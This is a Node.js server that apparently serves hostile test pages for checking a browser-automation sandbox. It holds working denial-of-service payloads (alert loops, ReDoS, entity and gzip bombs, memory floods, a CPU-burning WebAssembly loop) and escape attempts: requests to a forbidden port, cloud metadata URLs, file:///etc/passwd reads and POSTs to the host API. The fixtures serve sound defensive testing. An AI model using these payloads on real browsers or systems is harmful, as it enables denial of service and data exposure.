// Hostile pages behind one port, by path. OUT is the port of a server that none may reach, and API
// that of the host.
import { createServer } from 'node:http';
import { createGzip } from 'node:zlib';

const [port, out, api] = process.argv.slice(2);
const MAIN = '<main><h1>Orders</h1><p>Three orders are open.</p><button>New order</button></main>';
const page = (body, head = '') => ({
  headers: { 'content-type': 'text/html; charset=utf-8' },
  body: `<!doctype html><html lang="en"><head><title>App</title>${head}</head><body>${MAIN}${body}</body></html>`,
});
const script = (text) => page(`<script>${text}</script>`);
const redirect = (location) => ({ status: 302, headers: { location }, body: '' });
const O = 'http://127.0.0.1:OUT';
const worker = (text) => `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(text)}])))`;
/* (module (func (export "run") (loop (br 0)))) */
const MINER = '0,97,115,109,1,0,0,0,1,4,1,96,0,0,3,2,1,0,7,7,1,3,114,117,110,0,0,10,9,1,7,0,3,64,12,0,11,11';

const PAGES = {
  // What holds the browser.
  alerts: script(`for (;;) alert('again')`),
  confirms: script(`for (;;) confirm('again')`),
  prompts: script(`for (;;) prompt('again')`),
  prints: script(`setInterval(() => print(), 5)`),
  redirects: redirect('/redirects?more'),
  reloads: script(`location.href = '/reloads?' + Math.random()`),
  refreshes: page('', '<meta http-equiv="refresh" content="0">'),
  submits: page(`<form action="/submits" method="post"></form><script>document.forms[0].submit()</script>`),
  history: script(`for (let at = 0; ; at += 1) history.pushState({}, '', '/history/' + at)`),
  hashes: script(`setInterval(() => { location.hash = Math.random() })`),
  leaves: script(
    `addEventListener('beforeunload', (event) => event.preventDefault()); history.pushState({}, '', '/leaves#here')`,
  ),
  windows: script(`setInterval(() => open('/leaves'), 5)`),
  closes: script(`open('', '_self'); setInterval(() => { window.close(); window.stop() })`),
  loops: script(`for (;;) {}`),
  regexp: script(`/^(a+)+$/.test('a'.repeat(64) + 'b')`),
  microtasks: script(`const again = () => Promise.resolve().then(again); again()`),
  layouts: script(
    `const all = Array.from({ length: 3000 }, () => document.body.appendChild(document.createElement('p'))); const step = () => { for (const it of all) { it.style.width = Math.random() * 99 + 'px'; it.offsetHeight } requestAnimationFrame(step) }; step()`,
  ),
  debuggers: script(`setInterval(() => { debugger })`),
  // What fills its memory.
  elements: script(
    `const text = 'x'.repeat(1e6); for (;;) { const it = document.createElement('p'); it.textContent = text + Math.random(); document.body.append(it) }`,
  ),
  arrays: script(`const all = []; for (;;) all.push(new Uint8Array(16e6).fill(1))`),
  strings: script(`let text = 'x'; setInterval(() => { text += text; document.title = text })`),
  depth: script(
    `let at = document.body; for (let count = 0; count < 5e4; count += 1) at = at.appendChild(document.createElement('div')); at.textContent = 'deep'`,
  ),
  frames: script(
    `for (let count = 0; count < 200; count += 1) document.body.appendChild(document.createElement('iframe')).src = '/leaves?' + count`,
  ),
  nested: page('<iframe src="/nested?a"></iframe><iframe src="/nested?b"></iframe>'),
  canvases: script(
    `for (let count = 0; count < 60; count += 1) { const it = document.body.appendChild(document.createElement('canvas')); it.width = it.height = 8000; it.getContext('2d').fillRect(0, 0, 8000, 8000) }`,
  ),
  entities: {
    headers: { 'content-type': 'application/xml' },
    body: `<!DOCTYPE a [<!ENTITY a0 "${'ha'.repeat(500)}">${Array.from({ length: 9 }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`).join('')}]><a>&a9;</a>`,
  },
  gzip: (response) => {
    response.writeHead(200, { 'content-type': 'text/html', 'content-encoding': 'gzip' });
    const zipped = createGzip({ level: 1 });
    zipped.pipe(response);
    response.once('close', () => zipped.destroy());
    const more = () => {
      while (!zipped.destroyed && zipped.write(Buffer.alloc(1_048_576, '<p>bomb</p>')));
    };
    zipped.on('drain', more);
    more();
  },
  endless: (response) => {
    response.writeHead(200, { 'content-type': 'text/html' });
    const more = setInterval(() => response.write('<p>and so on</p>'.repeat(100)), 5);
    response.once('close', () => clearInterval(more));
  },
  drip: (response) => {
    response.writeHead(200, { 'content-type': 'text/html' });
    response.write(MAIN);
    const more = setInterval(() => response.write('.'), 200);
    response.once('close', () => clearInterval(more));
  },
  storage: script(
    `const text = 'x'.repeat(5e6); try { for (let at = 0; ; at += 1) localStorage[at] = text } catch {} caches.open('x').then(async (it) => { for (let at = 0; at < 200; at += 1) await it.put('/' + at, new Response(text)) })`,
  ),
  // What works on in the background.
  worker: script(`navigator.serviceWorker.register('/sw.js').catch(() => 0); ${worker('for(;;){}')}`),
  miner: script(
    `const code = new Uint8Array([${MINER}]); for (let at = 0; at < 8; at += 1) ${worker('onmessage = ({ data }) => WebAssembly.instantiate(data).then(({ instance }) => instance.exports.run())')}.postMessage(code)`,
  ),
  sockets: script(`for (let at = 0; at < 500; at += 1) new WebSocket('ws://' + location.host + '/none')`),
  fetches: script(
    `setInterval(() => { for (let at = 0; at < 100; at += 1) fetch('/none?' + Math.random()) })`,
  ),
  // What fills the report.
  floods: script(
    `setInterval(() => { for (let at = 0; at < 500; at += 1) console.log('flood'.repeat(1000)) })`,
  ),
  objects: script(
    `const big = Array.from({ length: 1e4 }, (_, at) => ({ at, text: 'x'.repeat(99) })); setInterval(() => { for (let at = 0; at < 100; at += 1) console.error(big, big) })`,
  ),
  throws: script(
    `setInterval(() => { for (let at = 0; at < 500; at += 1) setTimeout(() => { throw new Error('x'.repeat(5000)) }) })`,
  ),
  lies: script(
    `document.querySelectorAll = Element.prototype.checkVisibility = () => { throw new Error('no') }; JSON.stringify = () => 'works'; Object.prototype.toJSON = () => 'works'; Promise.prototype.then = () => 0; window.performance = undefined`,
  ),
  // What asks the person, or changes what the person sees.
  permissions: script(
    `navigator.geolocation.getCurrentPosition(() => 0, () => 0); Notification.requestPermission(); for (const ask of [() => navigator.mediaDevices?.getUserMedia({ audio: true, video: true }), () => navigator.requestMIDIAccess?.(), () => navigator.wakeLock?.request(), () => navigator.storage?.persist(), () => navigator.mediaDevices?.getDisplayMedia(), () => document.documentElement.requestFullscreen(), () => document.body.requestPointerLock()]) try { ask()?.catch?.(() => 0) } catch {}`,
  ),
  clipboard: script(
    `setInterval(() => { navigator.clipboard?.readText().catch(() => 0); navigator.clipboard?.writeText('x').catch(() => 0); document.execCommand('paste') })`,
  ),
  programs: script(
    `for (const url of ['mailto:a@b.test', 'tel:1', 'ssh://b.test', 'vscode://x', 'intent://x']) { const it = document.body.appendChild(document.createElement('iframe')); it.src = url } setTimeout(() => { location.href = 'mailto:a@b.test' })`,
  ),
  download: {
    headers: {
      'content-disposition': 'attachment; filename=x.bin',
      'content-type': 'application/octet-stream',
    },
    body: 'x',
  },
  downloads: script(
    `setInterval(() => { const it = document.createElement('a'); it.href = URL.createObjectURL(new Blob(['x'])); it.download = 'x.bin'; it.click() }, 5)`,
  ),
  password: {
    status: 401,
    headers: { 'www-authenticate': 'Basic realm="x"', 'content-type': 'text/html' },
    body: MAIN,
  },
  // What leaves its origin.
  away: redirect(`${O}/away`),
  'away-later': script(`location.href = '${O}/away'`),
  'away-refresh': page('', `<meta http-equiv="refresh" content="0;url=${O}/away">`),
  'away-form': page(
    `<form action="${O}/form" method="post" target="_blank"></form><form action="http://localhost:OUT/form"></form><script>document.forms[0].submit(); document.forms[1].submit()</script>`,
  ),
  'away-window': script(`open('${O}/window'); open('http://localhost:OUT/window', '_blank', 'noopener')`),
  escapes: page(
    `<iframe src="${O}/frame"></iframe><img src="http://localhost:OUT/image"><img src="http://127.0.0.2:OUT/image"><img src="http://[::1]:OUT/image"><img src="http://0.0.0.0:OUT/image"><img src="http://2130706433:OUT/image"><img src="http://x.localhost:OUT/image"><script>fetch('${O}/fetch', { mode: 'no-cors' }).catch(() => 0); navigator.sendBeacon('http://localhost:OUT/beacon', 'x'); new WebSocket('ws://127.0.0.1:OUT/socket'); new EventSource('${O}/events')</script>`,
  ),
  links: page(
    `<style>@import url(${O}/css); @font-face { font-family: F; src: url(${O}/font) } h1 { font-family: F; background: url(${O}/background) }</style><video src="${O}/video" autoplay></video><audio src="${O}/audio"></audio><object data="${O}/object"></object><embed src="${O}/embed"><a id="it" href="/" ping="${O}/ping">x</a><script>it.click = it.click.bind(it); it.addEventListener('click', (event) => event.preventDefault()); it.click()</script><script type="speculationrules">{ "prefetch": [{ "source": "list", "urls": ["${O}/speculated"] }], "prerender": [{ "source": "list", "urls": ["${O}/prerendered"] }] }</script>`,
    [
      'prefetch',
      'preconnect',
      'dns-prefetch',
      'preload" as="script',
      'modulepreload',
      'prerender',
      'manifest',
      'icon',
      'stylesheet',
    ]
      .map((rel) => `<link rel="${rel}" href="${O}/link">`)
      .join(''),
  ),
  scripts: page(
    `<script src="${O}/script"></script><script>import('${O}/module').catch(() => 0); try { const it = new XMLHttpRequest(); it.open('GET', '${O}/sync', false); it.send() } catch {} ${worker(`fetch('${O}/worker'); try { importScripts('${O}/import') } catch {}`)}; try { new SharedWorker(URL.createObjectURL(new Blob(["fetch('${O}/shared')"]))) } catch {} navigator.serviceWorker.register('/sw.js').catch(() => 0)</script>`,
  ),
  webrtc: script(
    `for (const urls of ['stun:127.0.0.1:OUT', 'turn:127.0.0.1:OUT?transport=udp', 'turn:127.0.0.1:OUT?transport=tcp', 'turns:localhost:OUT']) try { const it = new RTCPeerConnection({ iceServers: [{ urls, username: 'x', credential: 'x' }] }); it.createDataChannel('x'); it.createOffer().then((offer) => it.setLocalDescription(offer)) } catch {} try { new WebTransport('https://127.0.0.1:OUT/').ready.catch(() => 0) } catch {}`,
  ),
  reports: {
    ...script(`fetch('/none')`),
    headers: {
      'content-type': 'text/html',
      'content-security-policy': `script-src 'self'; report-uri ${O}/csp; report-to x`,
      'reporting-endpoints': `x="${O}/reports", default="${O}/reports"`,
      'report-to': `{"group":"x","max_age":9999,"endpoints":[{"url":"${O}/reports"}]}`,
      nel: '{"report_to":"x","max_age":9999,"success_fraction":1}',
      link: `<${O}/header>; rel=preload; as=image`,
      refresh: `1; url=${O}/refresh`,
    },
  },
  parting: script(
    `for (const name of ['pagehide', 'visibilitychange', 'unload', 'beforeunload']) addEventListener(name, () => { navigator.sendBeacon('${O}/parting', 'x'); fetch('${O}/parting', { keepalive: true, method: 'POST' }) })`,
  ),
  metadata: script(
    `for (const url of ['http://169.254.169.254/latest/meta-data/', 'http://metadata.google.internal/', 'http://[fd00:ec2::254]/', 'http://10.0.0.1/', 'http://192.168.0.1/']) fetch(url, { mode: 'no-cors' }).catch(() => 0)`,
  ),
  api: script(
    `for (const name of ['127.0.0.1', 'localhost']) fetch('http://' + name + ':API/api/runs', { method: 'POST', mode: 'no-cors', body: '{}' }).catch(() => 0)`,
  ),
  files: page(
    `<iframe src="file:///etc/passwd"></iframe><img src="file:///etc/passwd"><iframe src="view-source:file:///etc/passwd"></iframe><iframe src="chrome://version"></iframe><script>fetch('file:///etc/passwd').then((it) => it.text()).then((text) => { document.body.append(text) }, () => 0); open('file:///etc/passwd'); location.href = 'file:///etc/passwd'</script>`,
  ),
};
const OTHERS = {
  '/healthy': page(''),
  '/sw.js': {
    headers: { 'content-type': 'text/javascript' },
    body: `self.onfetch = () => {}; self.onactivate = () => fetch('${O}/service-worker')`,
  },
};

createServer((request, response) => {
  const [path] = request.url.split('?');
  const found = OTHERS[path] ?? PAGES[path.split('/')[1]];
  if (typeof found === 'function') {
    found(response);
    return;
  }
  const { status = 200, headers = {}, body } = found ?? { status: 404, body: 'Not found' };
  const filled = (text) => text.replaceAll('OUT', out).replaceAll(':API', `:${api}`);
  const sent = Object.entries(headers).map(([name, value]) => [name, filled(value)]);
  response.writeHead(status, Object.fromEntries(sent));
  response.end(filled(body));
}).listen(Number(port), '127.0.0.1');
